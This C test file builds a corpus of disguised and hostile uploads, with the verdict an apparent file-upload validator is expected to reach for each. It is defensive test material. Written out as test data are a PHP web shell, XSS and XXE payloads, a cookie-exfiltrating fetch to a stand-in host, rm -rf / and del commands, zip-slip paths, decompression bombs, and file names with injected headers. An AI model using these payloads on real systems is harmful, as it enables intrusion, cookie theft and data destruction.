/* SPDX-License-Identifier: Apache-2.0 */
#include "corpus_lying.h"

#include <unistd.h>

#include "base/buf.h"
#include "corpus.h"
#include "corpus_picture.h"

#define PDF                                                                                        \
	"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"            \
	"startxref\n9\n%%EOF\n"
#define SCRIPT "<script>alert(document.cookie)</script>"
#define PHP "<?php system($_GET['x']); ?>"
#define SVG "<svg xmlns=\"http://www.w3.org/2000/svg\">"
#define LAUGHS                                                                                     \
	"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">"       \
	"<!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>"
#define OFFICE "<Relationships><Relationship Id='1' Type='http://x/officeDocument' Target='"

/* --- archives --- */

static Str file_bytes(Arena *arena, int descriptor)
{
	size_t size = (size_t)corpus_size(descriptor);
	char *bytes = arena_take(arena, size + 1);
	ssize_t got = pread(descriptor, bytes, size, 0);
	close(descriptor);
	return (Str){ bytes, got > 0 ? (size_t)got : 0 };
}

static Str workbook(Arena *arena)
{
	return file_bytes(arena, corpus_sheet("<row><c><v>1</v></c></row>"));
}

/* A workbook with one more part. */
static Str workbook_with(Arena *arena, Entry more, Str relations)
{
	return file_bytes(
		arena, corpus_zip((const Entry[]){
			       { .name = "_rels/.rels", .middle = CORPUS_ROOT_RELATIONS },
			       { .name = "xl/workbook.xml", .middle = CORPUS_BOOK },
			       { .name = "xl/_rels/workbook.xml.rels", .middle = relations },
			       { .name = "xl/sharedStrings.xml", .middle = CORPUS_NO_STRINGS },
			       { .name = "xl/worksheets/sheet1.xml", .middle = S("<worksheet/>") },
			       more,
			       { 0 },
		       }));
}

static Str with_macros(Arena *arena)
{
	return workbook_with(arena,
			     (Entry){ .name = "xl/vbaProject.bin", .middle = S("Auto_Open") },
			     CORPUS_BOOK_RELATIONS);
}

static Str with_hidden_macros(Arena *arena)
{
	return workbook_with(
		arena, (Entry){ .name = "xl/media/a.bin", .middle = S("Auto_Open") },
		S("<Relationships><Relationship Id='r1' Type='http://x/worksheet'"
		  " Target='worksheets/sheet1.xml'/><Relationship Id='r9'"
		  " Type='http://x/vbaProject' Target='media/a.bin'/></Relationships>"));
}

static Str with_a_zip_inside(Arena *arena)
{
	return workbook_with(arena,
			     (Entry){ .name = "xl/embeddings/a.zip", .middle = workbook(arena) },
			     CORPUS_BOOK_RELATIONS);
}

static Str with_a_part_twice(Arena *arena)
{
	return workbook_with(arena, (Entry){ .name = "XL/workbook.xml", .middle = CORPUS_BOOK },
			     CORPUS_BOOK_RELATIONS);
}

static Str with_a_locked_part(Arena *arena)
{
	return workbook_with(arena,
			     (Entry){ .name = "xl/a.bin", .middle = S("a"), .password = "rahasia" },
			     CORPUS_BOOK_RELATIONS);
}

static Str bomb(Arena *arena)
{
	return workbook_with(
		arena,
		(Entry){ .name = "xl/a.bin", .middle = S("0000000000000000"), .count = 2000000 },
		CORPUS_BOOK_RELATIONS);
}

static Str half_a_workbook(Arena *arena)
{
	Str whole = workbook(arena);
	return str_slice(whole, 0, whole.length / 2);
}

static Str behind_a_program(Arena *arena)
{
	return corpus_joined(arena, S("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"), workbook(arena));
}

/* A package whose document is this part. */
static Str package(Arena *arena, const char *part, const char *root, Entry more)
{
	Str relations = str_print(arena, OFFICE "%s'/></Relationships>", part);
	return file_bytes(arena, corpus_zip((const Entry[]){
					 { .name = "_rels/.rels", .middle = relations },
					 { .name = part, .middle = str_of(root) },
					 more,
					 { 0 },
				 }));
}

static Str text_document(Arena *arena)
{
	return package(arena, "word/document.xml", "<w:document/>", (Entry){ 0 });
}

static Str text_with_macros(Arena *arena)
{
	return package(arena, "word/document.xml", "<w:document/>",
		       (Entry){ .name = "word/vbaProject.bin", .middle = S("AutoOpen") });
}

static Str slides(Arena *arena)
{
	return package(arena, "ppt/presentation.xml", "<p:presentation/>", (Entry){ 0 });
}

static Str binary_workbook(Arena *arena)
{
	return package(arena, "xl/workbook.bin", "\x83\x01", (Entry){ 0 });
}

static Str laughing_workbook(Arena *arena)
{
	return package(arena, "xl/workbook.xml", LAUGHS, (Entry){ 0 });
}

static Str open_document(Arena *arena, const char *type, Entry more)
{
	return file_bytes(arena, corpus_zip((const Entry[]){
					 { .name = "mimetype", .middle = str_of(type) },
					 { .name = "content.xml", .middle = S("<office/>") },
					 more,
					 { 0 },
				 }));
}

static Str open_text_with_script(Arena *arena)
{
	return open_document(arena, "application/vnd.oasis.opendocument.text",
			     (Entry){ .name = "Basic/Standard/Module1.xml",
				      .middle = S("<script:module>Sub Main</script:module>") });
}

static Str open_sheet(Arena *arena)
{
	return open_document(arena, "application/vnd.oasis.opendocument.spreadsheet", (Entry){ 0 });
}

static Str plain_zip(Arena *arena)
{
	return file_bytes(arena, corpus_zip((const Entry[]){
					 { .name = "baca.txt", .middle = S("halo") }, { 0 } }));
}

static Str zips_in_zips(Arena *arena)
{
	Str inner = plain_zip(arena);
	for (int i = 0; i < 5; i++)
		inner = file_bytes(
			arena, corpus_zip((const Entry[]){ { .name = "dalam.zip", .middle = inner },
							   { 0 } }));
	return inner;
}

static Str path_out_of_the_zip(Arena *arena)
{
	return file_bytes(arena, corpus_zip((const Entry[]){
					 { .name = "../../etc/cron.d/x", .middle = S("* * * * *") },
					 { 0 } }));
}

static Str gif_and_zip(Arena *arena)
{
	return corpus_joined(arena, S("GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff;"),
			     plain_zip(arena));
}

static Str pdf_and_zip(Arena *arena)
{
	return corpus_joined(arena, S(PDF), plain_zip(arena));
}

static Str pdf_and_much_behind(Arena *arena)
{
	char *zeros = arena_take(arena, 5000);
	return corpus_joined(arena, S(PDF), (Str){ zeros, 5000 });
}

static Str random_bytes_made_up(Arena *arena)
{
	char *bytes = arena_take(arena, 3000);
	uint32_t number = 7;
	for (int i = 0; i < 3000; i++)
		bytes[i] = (char)((number = number * 1664525u + 1013904223u) >> 24);
	return (Str){ bytes, 3000 };
}

static Str zeros(Arena *arena)
{
	return (Str){ arena_take(arena, 4096), 4096 };
}

/* --- pictures --- */

static Str photo(Arena *arena)
{
	return corpus_jpeg(arena, (Drawing){ 80, 60, .noise = 60 });
}

static Str drawing(Arena *arena)
{
	return corpus_png(arena, (Drawing){ 80, 60 });
}

static Str web_photo(Arena *arena)
{
	return corpus_webp(arena, (Drawing){ 80, 60, .noise = 60 });
}

static Str photo_php_behind(Arena *arena)
{
	return corpus_joined(arena, photo(arena), S(PHP));
}

static Str photo_script_in_comment(Arena *arena)
{
	return corpus_jpeg_with(arena, photo(arena), 0xFE, S(SCRIPT));
}

static Str photo_php_in_exif(Arena *arena)
{
	return corpus_jpeg_with(arena, photo(arena), 0xE1,
				corpus_joined(arena, corpus_exif(arena, 1), S(PHP)));
}

static Str photo_pdf_in_comment(Arena *arena)
{
	return corpus_jpeg_with(arena, photo(arena), 0xFE, S(PDF));
}

static Str photo_pdf_behind(Arena *arena)
{
	return corpus_joined(arena, photo(arena), S(PDF));
}

static Str photo_zip_behind(Arena *arena)
{
	return corpus_joined(arena, photo(arena), plain_zip(arena));
}

static Str photo_film_behind(Arena *arena)
{
	return corpus_joined(arena, photo(arena),
			     S("\0\0\0\x18"
			       "ftypmp42" SCRIPT));
}

static Str photo_twice(Arena *arena)
{
	return corpus_joined(arena, photo(arena), photo(arena));
}

static Str half_a_photo(Arena *arena)
{
	Str whole = photo(arena);
	return str_slice(whole, 0, whole.length / 2);
}

static Str huge_photo(Arena *arena)
{
	return corpus_jpeg_raw(arena, (RawJpeg){ 65000, 65000, .components = 3 });
}

static Str photo_of_no_height(Arena *arena)
{
	return corpus_jpeg_raw(arena, (RawJpeg){ 16, 0, .components = 3 });
}

static Str press_photo(Arena *arena)
{
	return corpus_jpeg_raw(arena, (RawJpeg){ 16, 16, .components = 4 });
}

static Str damaged(Arena *arena, Str whole, size_t at)
{
	Str copy = str_copy(arena, whole);
	((char *)copy.at)[at] ^= 0x55;
	return copy;
}

static Str png_with_wrong_head_check(Arena *arena)
{
	return damaged(arena, drawing(arena), 30);
}

static Str png_with_wrong_pixel_check(Arena *arena)
{
	Str png = drawing(arena);
	return damaged(arena, png, png.length - 14);
}

static Str png_bomb(Arena *arena)
{
	return corpus_png_raw(arena,
			      (RawPng){ 50000, 50000, .depth = 8, .colour = 2, .says_only = true });
}

static Str png_of_no_width(Arena *arena)
{
	return corpus_png_raw(arena, (RawPng){ 0, 16, .depth = 8, .colour = 2 });
}

static Str png_with_script(Arena *arena)
{
	return corpus_png_with(arena, drawing(arena), "tEXt", S("Comment\0" SCRIPT));
}

static Str png_php_behind(Arena *arena)
{
	return corpus_joined(arena, drawing(arena), S(PHP));
}

static Str png_html_behind(Arena *arena)
{
	return corpus_joined(arena, drawing(arena), S("<html>" SCRIPT));
}

static Str moving_png(Arena *arena)
{
	return corpus_png_with(arena, drawing(arena), "acTL", S("\0\0\0\2\0\0\0\0"));
}

static Str half_a_png(Arena *arena)
{
	Str whole = drawing(arena);
	return str_slice(whole, 0, whole.length / 2);
}

static Str webp_with_lying_chunk(Arena *arena)
{
	return damaged(arena, web_photo(arena), 18);
}

static Str webp_with_lying_length(Arena *arena)
{
	return damaged(arena, web_photo(arena), 6);
}

static Str webp_script_behind(Arena *arena)
{
	return corpus_joined(arena, web_photo(arena), S(SCRIPT));
}

static Str webp_bomb(Arena *arena)
{
	return corpus_webp_lossless(arena, 16000, 16000);
}

#define LONG "laporan-yang-namanya-sangat-panjang-"
#define LONGER LONG LONG LONG LONG LONG LONG LONG LONG

const LyingFile lying_files[] = {
	/* pages and programs under the names of pictures and documents */
	{ "a GIF with a script", "foto.gif", S("GIF89a\1\0\1\0" SCRIPT), .fate = NOT_TAKEN },
	{ "a GIF called a JPEG", "foto.jpg", S("GIF89a\1\0\1\0\x80\0\0;"), .fate = NOT_TAKEN },
	{ "a GIF that is an archive", "foto.gif", .make = gif_and_zip, .fate = NOT_TAKEN },
	{ "HTML called a JPEG", "foto.jpg", S("<html>" SCRIPT), .fate = NOT_TAKEN },
	{ "HTML called a PDF", "surat.pdf", S("<!doctype html>" SCRIPT), .fate = NOT_TAKEN },
	{ "HTML that names PDF first", "surat.pdf", S("<!-- %PDF-1.4 -->" SCRIPT),
	  .fate = NOT_TAKEN },
	{ "HTML behind blanks", "surat.pdf", S("\n\n   <html>" SCRIPT), .fate = NOT_TAKEN },
	{ "HTML in UTF-16, small end first", "surat.pdf", S("\xff\xfe<\0h\0t\0m\0l\0>\0"),
	  .fate = NOT_TAKEN },
	{ "HTML in UTF-16, big end first", "surat.pdf", S("\xfe\xff\0<\0h\0t\0m\0l\0>"),
	  .fate = NOT_TAKEN },
	{ "XHTML called a workbook", "rekap.xlsx",
	  S("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
	  .fate = NOT_TAKEN },
	{ "SVG", "logo.svg", S(SVG "<rect/></svg>"), .fate = NOT_TAKEN },
	{ "SVG with a script", "logo.svg", S(SVG SCRIPT "</svg>"), .fate = NOT_TAKEN },
	{ "SVG called a PNG", "logo.png", S(SVG SCRIPT "</svg>"), .fate = NOT_TAKEN },
	{ "SVG behind a mark of UTF-8", "logo.png", S("\xef\xbb\xbf" SVG SCRIPT "</svg>"),
	  .fate = NOT_TAKEN },
	{ "an XML bomb", "data.xml", S(LAUGHS), .fate = NOT_TAKEN },
	{ "XML that asks for a file", "rekap.xlsx",
	  S("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
	  .fate = NOT_TAKEN },
	{ "a page with all it needs", "surat.mht",
	  S("MIME-Version: 1.0\nContent-Type: multipart/related\n\n" SCRIPT), .fate = NOT_TAKEN },
	{ "a script called a PDF", "surat.pdf", S("#!/bin/sh\nrm -rf /\n"), .fate = NOT_TAKEN },
	{ "JavaScript", "app.js", S("fetch('//jahat.example/'+document.cookie)\n"),
	  .fate = NOT_TAKEN },
	{ "PHP called a JPEG", "foto.jpg", S(PHP), .fate = NOT_TAKEN },
	{ "a batch file called a PDF", "surat.pdf", S("@echo off\r\ndel /s /q c:\\\r\n"),
	  .fate = NOT_TAKEN },
	{ "a program of Windows called a PDF", "surat.pdf",
	  S("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"), .fate = NOT_TAKEN },
	{ "a program of Windows", "pasang.exe", S("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"),
	  .fate = NOT_TAKEN },
	{ "a program of Linux called a PNG", "foto.png",
	  S("\x7f"
	    "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0>\0"),
	  .fate = NOT_TAKEN },
	{ "a program of Java called a JPEG", "foto.jpg", S("\xca\xfe\xba\xbe\0\0\0\x37\0\x10"),
	  .fate = NOT_TAKEN },
	{ "a shortcut called a PDF", "surat.pdf",
	  S("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"), .fate = NOT_TAKEN },
	{ "RTF called a PDF", "surat.pdf", S("{\\rtf1\\ansi halo}"), .fate = NOT_TAKEN },
	{ "PostScript called a PDF", "surat.pdf", S("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"),
	  .fate = NOT_TAKEN },
	/* pictures and films that are not taken */
	{ "a BMP called a JPEG", "foto.jpg",
	  S("BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\1\0\0\0\1\0\0\0\1\0\x18\0"),
	  .fate = NOT_TAKEN },
	{ "a TIFF called a JPEG", "foto.jpg", S("II*\0\x08\0\0\0\0\0\0\0\0\0"), .fate = NOT_TAKEN },
	{ "a TIFF, big end first, called a PNG", "foto.png", S("MM\0*\0\0\0\x08\0\0\0\0\0\0"),
	  .fate = NOT_TAKEN },
	{ "an icon called a PNG", "foto.png",
	  S("\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0"), .fate = NOT_TAKEN },
	{ "a Photoshop file called a JPEG", "foto.jpg",
	  S("8BPS\0\1\0\0\0\0\0\0\0\3\0\0\0\1\0\0\0\1\0\x08\0\3"), .fate = NOT_TAKEN },
	{ "HEIC called a JPEG", "foto.jpg",
	  S("\0\0\0\x18"
	    "ftypheic\0\0\0\0mif1heic"),
	  .fate = NOT_TAKEN },
	{ "AVIF called a PNG", "foto.png",
	  S("\0\0\0\x1c"
	    "ftypavif\0\0\0\0avifmif1miaf"),
	  .fate = NOT_TAKEN },
	{ "JPEG 2000", "foto.jpg",
	  S("\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14"
	    "ftypjp2 "),
	  .fate = NOT_TAKEN },
	{ "a film called a PNG", "foto.png",
	  S("\0\0\0\x18"
	    "ftypmp42\0\0\0\0mp42isom"),
	  .fate = NOT_TAKEN },
	{ "a film for the web called a WebP", "foto.webp", S("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\1"),
	  .fate = NOT_TAKEN },
	{ "a sound called a WebP", "foto.webp", S("RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0"),
	  .fate = NOT_TAKEN },
	{ "an old film called a WebP", "foto.webp", S("RIFF\x24\0\0\0AVI LIST\x10\0\0\0hdrl"),
	  .fate = NOT_TAKEN },
	/* archives */
	{ "a plain archive", "berkas.zip", .make = plain_zip, .fate = NOT_TAKEN },
	{ "archives in archives, called a workbook", "rekap.xlsx", .make = zips_in_zips,
	  .fate = NOT_TAKEN },
	{ "an archive with a path that leads out", "rekap.xlsx", .make = path_out_of_the_zip,
	  .fate = NOT_TAKEN },
	{ "a 7z called a workbook", "rekap.xlsx", S("7z\xbc\xaf\x27\x1c\0\4\0\0\0\0"),
	  .fate = NOT_TAKEN },
	{ "a RAR called a workbook", "rekap.xlsx", S("Rar!\x1a\7\1\0\0\0\0\0"), .fate = NOT_TAKEN },
	{ "a gzip called a workbook", "rekap.xlsx",
	  S("\x1f\x8b\x08\0\0\0\0\0\0\3\3\0\0\0\0\0\0\0\0\0"), .fate = NOT_TAKEN },
	/* office files */
	{ "a text document", "surat.docx", .make = text_document, .fate = NOT_TAKEN },
	{ "a text document called a workbook", "surat.xlsx", .make = text_document,
	  .fate = NOT_TAKEN },
	{ "a text document with macros", "surat.docm", .make = text_with_macros,
	  .fate = NOT_TAKEN },
	{ "slides called a PDF", "paparan.pdf", .make = slides, .fate = NOT_TAKEN },
	{ "an open text with a script", "surat.odt", .make = open_text_with_script,
	  .fate = NOT_TAKEN },
	{ "an open sheet called a workbook", "rekap.xlsx", .make = open_sheet, .fate = NOT_TAKEN },
	{ "a workbook with macros", "rekap.xlsx", .make = with_macros, .fate = NOT_TAKEN },
	{ "a workbook with macros under its own ending", "rekap.xlsm", .make = with_macros,
	  .fate = NOT_TAKEN },
	{ "a workbook with macros in a part of another name", "rekap.xlsx",
	  .make = with_hidden_macros, .fate = NOT_TAKEN },
	{ "a workbook in binary", "rekap.xlsx", .make = binary_workbook, .fate = NOT_TAKEN },
	{ "a workbook of the nineties", "rekap.xlsx",
	  S("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Workbook"), .fate = NOT_TAKEN },
	{ "a workbook behind a program", "rekap.xlsx", .make = behind_a_program,
	  .fate = NOT_TAKEN },
	{ "a workbook locked with a password", "rekap.xlsx",
	  S("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
	    "E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0\0"),
	  .fate = LOCKED },
	{ "a workbook with a locked part", "rekap.xlsx", .make = with_a_locked_part,
	  .fate = LOCKED },
	{ "a workbook with a part twice", "rekap.xlsx", .make = with_a_part_twice, .fate = BROKEN },
	{ "a workbook that laughs", "rekap.xlsx", .make = laughing_workbook, .fate = BROKEN },
	{ "half a workbook", "rekap.xlsx", .make = half_a_workbook, .fate = BROKEN },
	{ "an archive bomb", "rekap.xlsx", .make = bomb, .fate = TOO_BIG },
	{ "a workbook called a PDF", "rekap.pdf", .make = workbook, .fate = NAME_LIES },
	{ "a workbook with an archive inside", "rekap.xlsx", .make = with_a_zip_inside,
	  .fate = KEPT_XLSX },
	{ "a workbook in capitals", "REKAP.XLSX", .make = workbook, .fate = KEPT_XLSX },
	/* PDF */
	{ "a PDF called a JPEG", "foto.jpg", S(PDF), .fate = NAME_LIES },
	{ "a PDF called a program", "surat.pdf.exe", S(PDF), .fate = NAME_LIES },
	{ "a PDF whose name turns round to hide .exe",
	  "surat\u202e"
	  "fdp.exe",
	  S(PDF), .fate = NAME_LIES },
	{ "a PDF without its end", "surat.pdf", S("%PDF-1.4\n1 0 obj\n<< >>\nendobj\n"),
	  .fate = BROKEN },
	{ "a PDF with much behind its end", "surat.pdf", .make = pdf_and_much_behind,
	  .fate = BROKEN },
	{ "a PDF locked with a password", "surat.pdf",
	  S("%PDF-1.4\ntrailer\n<< /Encrypt 3 0 R >>\nstartxref\n9\n%%EOF\n"), .fate = LOCKED },
	{ "a PDF behind something else", "surat.pdf", S("GIF89a" PDF), .fate = NOT_TAKEN },
	{ "a PDF with JavaScript", "surat.pdf",
	  S("%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"),
	  .fate = KEPT_PDF },
	{ "a PDF with a page behind it", "surat.pdf", S(PDF "<html>" SCRIPT), .fate = KEPT_PDF },
	{ "a PDF that is an archive too", "surat.pdf", .make = pdf_and_zip, .fate = KEPT_PDF },
	/* pictures */
	{ "a JPEG with PHP behind", "foto.jpg", .make = photo_php_behind, .fate = MADE_JPEG },
	{ "a JPEG with a script in its comment", "foto.jpg", .make = photo_script_in_comment,
	  .fate = MADE_JPEG },
	{ "a JPEG with PHP beside the camera's name", "foto.jpg", .make = photo_php_in_exif,
	  .fate = MADE_JPEG },
	{ "a JPEG with a PDF in its comment", "foto.jpg", .make = photo_pdf_in_comment,
	  .fate = MADE_JPEG },
	{ "a JPEG with a PDF behind", "foto.jpg", .make = photo_pdf_behind, .fate = MADE_JPEG },
	{ "a JPEG with an archive behind", "foto.jpg", .make = photo_zip_behind,
	  .fate = MADE_JPEG },
	{ "a JPEG with a film behind", "foto.jpg", .make = photo_film_behind, .fate = MADE_JPEG },
	{ "two JPEGs in one", "foto.jpg", .make = photo_twice, .fate = MADE_JPEG },
	{ "a JPEG of a press", "foto.jpg", .make = press_photo, .fate = MADE_PNG,
	  .stored_name = "foto.png" },
	{ "a JPEG with a PDF in its comment, called a PDF", "surat.pdf",
	  .make = photo_pdf_in_comment, .fate = NAME_LIES },
	{ "a JPEG called a PNG", "foto.png", .make = photo, .fate = NAME_LIES },
	{ "a JPEG with the ending of a program", "foto.jpg.php", .make = photo, .fate = NAME_LIES },
	{ "a JPEG that was a program before", "foto.php.jpg", .make = photo, .fate = MADE_JPEG },
	{ "half a JPEG", "foto.jpg", .make = half_a_photo, .fate = BROKEN },
	{ "a JPEG's head alone", "foto.jpg", S("\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"),
	  .fate = BROKEN },
	{ "a JPEG without a height", "foto.jpg", .make = photo_of_no_height, .fate = BROKEN },
	{ "a JPEG that says it is huge", "foto.jpg", .make = huge_photo, .fate = TOO_BIG },
	{ "a PNG whose head has a wrong check", "foto.png", .make = png_with_wrong_head_check,
	  .fate = BROKEN },
	{ "a PNG whose pixels have a wrong check", "foto.png", .make = png_with_wrong_pixel_check,
	  .fate = BROKEN },
	{ "half a PNG", "foto.png", .make = half_a_png, .fate = BROKEN },
	{ "a PNG without a width", "foto.png", .make = png_of_no_width, .fate = BROKEN },
	{ "a PNG bomb", "foto.png", .make = png_bomb, .fate = TOO_BIG },
	{ "a PNG that moves", "foto.png", .make = moving_png, .fate = MOVING },
	{ "a PNG with a script in its text", "foto.png", .make = png_with_script,
	  .fate = MADE_PNG },
	{ "a PNG with PHP behind", "foto.png", .make = png_php_behind, .fate = MADE_PNG },
	{ "a PNG with a page behind", "foto.png", .make = png_html_behind, .fate = MADE_PNG },
	{ "a PNG called a JPEG", "foto.jpg", .make = drawing, .fate = NAME_LIES },
	{ "a WebP whose chunk lies about its length", "foto.webp", .make = webp_with_lying_chunk,
	  .fate = BROKEN },
	{ "a WebP that says it is longer", "foto.webp", .make = webp_with_lying_length,
	  .fate = BROKEN },
	{ "a WebP that says it is huge", "foto.webp", .make = webp_bomb, .fate = TOO_BIG },
	{ "a WebP that moves", "foto.webp", .make = corpus_webp_moving, .fate = MOVING },
	{ "a WebP called a JPEG", "foto.jpg", .make = web_photo, .fate = NAME_LIES },
	{ "a WebP with a script behind", "foto.webp", .make = webp_script_behind, .fate = MADE_JPEG,
	  .stored_name = "foto.jpg" },
	/* nothing, little, and names */
	{ "an empty file", "surat.pdf", { 0 }, .fate = EMPTY },
	{ "one byte", "surat.pdf", S("%"), .fate = NOT_TAKEN },
	{ "zeros", "surat.pdf", .make = zeros, .fate = NOT_TAKEN },
	{ "made-up bytes", "surat.pdf", .make = random_bytes_made_up, .fate = NOT_TAKEN },
	{ "a name with a path", "../../etc/passwd.pdf", S(PDF), .fate = KEPT_PDF,
	  .stored_name = "passwd.pdf" },
	{ "a name with a path of Windows", "C:\\Users\\a\\surat.pdf", S(PDF), .fate = KEPT_PDF,
	  .stored_name = "surat.pdf" },
	{ "a name with a header in it", "a\r\nSet-Cookie: x=1.pdf", S(PDF), .fate = KEPT_PDF,
	  .stored_name = "a__Set-Cookie: x=1.pdf" },
	{ "a name that turns round",
	  "surat\u202e"
	  "exe.pdf",
	  S(PDF), .fate = KEPT_PDF, .stored_name = "suratexe.pdf" },
	{ "a name that is no UTF-8",
	  "sur\xff"
	  "at.pdf",
	  S(PDF), .fate = KEPT_PDF, .stored_name = "sur_at.pdf" },
	{ "a name that is an ending", ".pdf", S(PDF), .fate = KEPT_PDF },
	{ "a name without an ending", "surat", S(PDF), .fate = KEPT_PDF },
	{ "a name of markup", "<img src=x onerror=alert(1)>.pdf", S(PDF), .fate = KEPT_PDF },
	{ "a name that is too long", LONGER ".pdf", S(PDF), .fate = KEPT_PDF, .stored_name = "?" },
};
const size_t lying_file_count = sizeof lying_files / sizeof *lying_files;
